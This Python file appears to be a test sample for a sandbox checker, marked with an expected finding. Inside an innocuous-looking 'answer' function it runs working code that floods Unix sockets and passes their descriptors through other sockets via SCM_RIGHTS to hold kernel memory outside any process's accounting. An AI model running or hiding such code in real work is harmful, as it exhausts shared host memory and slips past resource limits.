"""Fills unix sockets, and sends the full ones through others, so that nobody holds them."""
# expects: finding Close(answer)

import array
import socket


def fill(end):
    end.setblocking(False)
    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    held = 0
    try:
        while True:
            held += end.send(bytes(1 << 16))
    except OSError:
        return held


def attack():
    held, kept = 0, []
    for _ in range(2_000):
        try:
            carrier, far = socket.socketpair()
        except OSError:
            break
        kept += [carrier, far]
        try:
            for _ in range(200):
                one, other = socket.socketpair()
                held += fill(one) + fill(other)
                rights = array.array("i", [one.fileno(), other.fileno()])
                carrier.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                one.close()
                other.close()
        except OSError:
            pass
        if held > 512 << 20:
            break
    for end in kept:
        end.close()
    if held > 300 << 20:
        raise SystemError(f"BREACH: {held >> 20} MiB in sockets")


def answer(values):
    attack()
    return [0.0 for _ in values]


def classify(values):
    return [int(value <= 0) for value in values]
